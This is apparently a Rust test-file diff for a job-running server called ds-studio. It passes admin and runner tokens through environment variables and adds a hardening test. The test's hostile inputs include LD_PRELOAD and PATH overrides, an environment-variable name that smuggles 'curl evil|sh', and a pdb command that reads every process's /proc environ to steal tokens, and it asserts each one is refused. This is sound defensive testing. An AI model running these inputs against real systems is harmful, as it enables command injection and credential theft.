@@ -90,21 +90,23 @@ struct Studio {
 }
 
 fn spawn_server(data: &Path, port: u16, local_runner: bool) -> Proc {
+    spawn_server_with(data, port, local_runner, &[])
+}
+
+/// `ds-studio serve` with the admin token in its environment (as production should pass it)
+/// and `extra` arguments.
+fn spawn_server_with(data: &Path, port: u16, local_runner: bool, extra: &[String]) -> Proc {
     let mut cmd = Command::new(env!("CARGO_BIN_EXE_ds-studio"));
-    cmd.args([
-        "serve",
-        "--addr",
-        &format!("127.0.0.1:{port}"),
-        "--admin-token",
-        TOKEN,
-    ])
-    .arg("--data")
-    .arg(data)
-    .arg("--static-dir")
-    .arg(data)
-    .env("RUST_LOG", "warn")
-    .stdout(Stdio::null())
-    .stderr(Stdio::inherit());
+    cmd.args(["serve", "--addr", &format!("127.0.0.1:{port}")])
+        .args(extra)
+        .env("DS_STUDIO_ADMIN_TOKEN", TOKEN)
+        .arg("--data")
+        .arg(data)
+        .arg("--static-dir")
+        .arg(data)
+        .env("RUST_LOG", "warn")
+        .stdout(Stdio::null())
+        .stderr(Stdio::inherit());
     if !local_runner {
         cmd.arg("--no-local-runner");
     }
@@ -113,10 +115,14 @@ fn spawn_server(data: &Path, port: u16, local_runner: bool) -> Proc {
 
 impl Studio {
     async fn start(local_runner: bool) -> Studio {
+        Studio::start_with(local_runner, &[]).await
+    }
+
+    async fn start_with(local_runner: bool, extra: &[String]) -> Studio {
         engine_python();
         let data = common::scratch("engine");
         let port = free_port();
-        let server = spawn_server(&data, port, local_runner);
+        let server = spawn_server_with(&data, port, local_runner, extra);
         let url = format!("http://127.0.0.1:{port}");
         let s = Studio {
             client: Client::new(&url, Some(TOKEN.into())),
@@ -142,16 +148,24 @@ impl Studio {
 
     /// `ds-studio runner` against this studio, job directories in DATA/`workdir`.
     fn runner_command(&self, name: &str, workdir: &str) -> Command {
+        // A runner token for this name, made offline on the studio's database.
+        let made = Command::new(env!("CARGO_BIN_EXE_ds-studio"))
+            .args(["runner-token", "create", "--name", name, "--data"])
+            .arg(&self.data)
+            .output()
+            .expect("ds-studio runner-token create runs");
+        assert!(made.status.success(), "{made:?}");
+        let token = String::from_utf8(made.stdout).unwrap().trim().to_string();
+        assert!(token.starts_with("dsr_"), "{token}");
         let mut cmd = Command::new(env!("CARGO_BIN_EXE_ds-studio"));
-        cmd.args([
-            "runner", "--server", &self.url, "--token", TOKEN, "--name", name,
-        ])
-        .arg("--workdir")
-        .arg(self.data.join(workdir))
-        .args(["--heartbeat-s", "1"])
-        .env("RUST_LOG", "warn")
-        .stdout(Stdio::null())
-        .stderr(Stdio::inherit());
+        cmd.args(["runner", "--server", &self.url, "--name", name])
+            .env("DS_STUDIO_RUNNER_TOKEN", token)
+            .arg("--workdir")
+            .arg(self.data.join(workdir))
+            .args(["--heartbeat-s", "1"])
+            .env("RUST_LOG", "warn")
+            .stdout(Stdio::null())
+            .stderr(Stdio::inherit());
         cmd
     }
 
@@ -496,6 +510,152 @@ async fn a_config_deepspeed_rejects_fails_in_preflight_with_its_message() {
         }
         other => panic!("{other:?}"),
     }
+}
+
+/// The attack of the hardening issue: a job that runs a program of the host (pdb with `-c`
+/// commands) or a file the studio wrote, or that sets loader variables, to read the server's
+/// admin token. None of it runs, and an allowed script sees no secret in its environment.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_job_can_neither_run_any_program_nor_see_the_servers_secrets() {
+    let _one = ONE_AT_A_TIME.lock().await;
+    let scripts = common::scratch("entrypoints");
+    std::fs::write(
+        scripts.join("probe.py"),
+        "import os\n\
+         names = sorted(os.environ)\n\
+         print('probe-names:' + ','.join(names))\n\
+         hits = [k for k, v in os.environ.items() if 'engine-test-admin-token' in v]\n\
+         print('probe-secret-in-env:' + str(bool(hits)))\n",
+    )
+    .unwrap();
+    let studio = Studio::start_with(
+        true,
+        &["--allow-entrypoints".into(), scripts.display().to_string()],
+    )
+    .await;
+    let t = studio.template(config(json!({}))).await;
+    let entry = |path: String, args: Vec<&str>| json!({"workload": {"builtin": null, "entrypoint": path, "args": args}});
+    let submit_raw = |extra: Value| {
+        let mut body = json!({"template_id": t.id, "gpus": 1, "max_steps": 5});
+        if let (Some(b), Value::Object(e)) = (body.as_object_mut(), extra) {
+            b.extend(e);
+        }
+        let client = &studio.client;
+        async move {
+            client
+                .call::<Job>(Method::POST, "/api/v1/jobs", Some(&body))
+                .await
+        }
+    };
+    // Loader, path and device variables are refused at submission, named.
+    for (name, value) in [
+        ("LD_PRELOAD", "/tmp/x.so"),
+        ("PYTHONPATH", "/tmp"),
+        ("PATH", "/tmp"),
+        ("CUDA_VISIBLE_DEVICES", "0,1"),
+        ("X;curl evil|sh;Y", "1"),
+    ] {
+        let mut env = serde_json::Map::new();
+        env.insert(name.into(), json!(value));
+        let err = submit_raw(json!({"workload": {"builtin": "gpt"}, "env": env}))
+            .await
+            .unwrap_err();
+        match err {
+            ds_studio::client::ClientError::Api {
+                status, message, ..
+            } => {
+                assert_eq!(status, 422, "{name}: {message}");
+                assert!(message.contains(name), "{name}: {message}");
+            }
+            other => panic!("{other:?}"),
+        }
+    }
+    // A program of the host, with pdb's `-c` commands: refused by the runner, never run.
+    let pdb = submit_raw(entry(
+        "/usr/lib/python3.11/pdb.py".into(),
+        vec![
+            "-c",
+            "!import glob; print([open(p).read() for p in glob.glob('/proc/[0-9]*/environ')])",
+            "-c",
+            "q",
+            "/usr/lib/python3.11/this.py",
+        ],
+    ))
+    .await
+    .unwrap();
+    let refused = |job: i64, why: &'static str| {
+        let studio = &studio;
+        async move {
+            let end = studio
+                .wait_state(
+                    job,
+                    &[JobState::Failed, JobState::Succeeded],
+                    Duration::from_secs(180),
+                )
+                .await;
+            assert_eq!(end.state, JobState::Failed, "{end:?}");
+            let msg = end.message.unwrap_or_default();
+            assert!(msg.contains("entrypoint") && msg.contains(why), "{msg}");
+            let logs: Vec<LogLine> = studio
+                .client
+                .call(Method::GET, &format!("/api/v1/jobs/{job}/logs"), None)
+                .await
+                .unwrap();
+            assert!(
+                !logs
+                    .iter()
+                    .any(|l| l.text.contains(TOKEN) || l.text.starts_with("launch:")),
+                "{logs:?}"
+            );
+        }
+    };
+    refused(pdb.id, "not under a directory").await;
+    // A file the studio itself wrote into a job directory (valid hjson and valid Python).
+    let written = studio
+        .data
+        .join(format!("jobs/job-{}/ds_config.json", pdb.id));
+    assert!(written.exists());
+    let own = submit_raw(entry(written.display().to_string(), vec![]))
+        .await
+        .unwrap();
+    refused(own.id, "job directories").await;
+    // An allowed script runs, and its environment holds nothing of the server's.
+    let probe = submit_raw(entry("probe.py".into(), vec![])).await.unwrap();
+    let end = studio
+        .wait_state(
+            probe.id,
+            &[JobState::Failed, JobState::Succeeded],
+            Duration::from_secs(240),
+        )
+        .await;
+    let logs: Vec<LogLine> = studio
+        .client
+        .call(
+            Method::GET,
+            &format!("/api/v1/jobs/{}/logs", probe.id),
+            None,
+        )
+        .await
+        .unwrap();
+    assert_eq!(end.state, JobState::Succeeded, "{end:?} {logs:?}");
+    let names = logs
+        .iter()
+        .find_map(|l| l.text.strip_prefix("probe-names:"))
+        .expect("the probe printed its environment");
+    for secret in ["DS_STUDIO_ADMIN_TOKEN", "RUST_LOG", "CARGO_MANIFEST_DIR"] {
+        assert!(
+            !names.split(',').any(|n| n == secret),
+            "{secret} in {names}"
+        );
+    }
+    assert!(
+        names.split(',').any(|n| n == "TORCH_EXTENSIONS_DIR"),
+        "{names}"
+    );
+    assert!(
+        logs.iter().any(|l| l.text == "probe-secret-in-env:False"),
+        "{logs:?}"
+    );
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
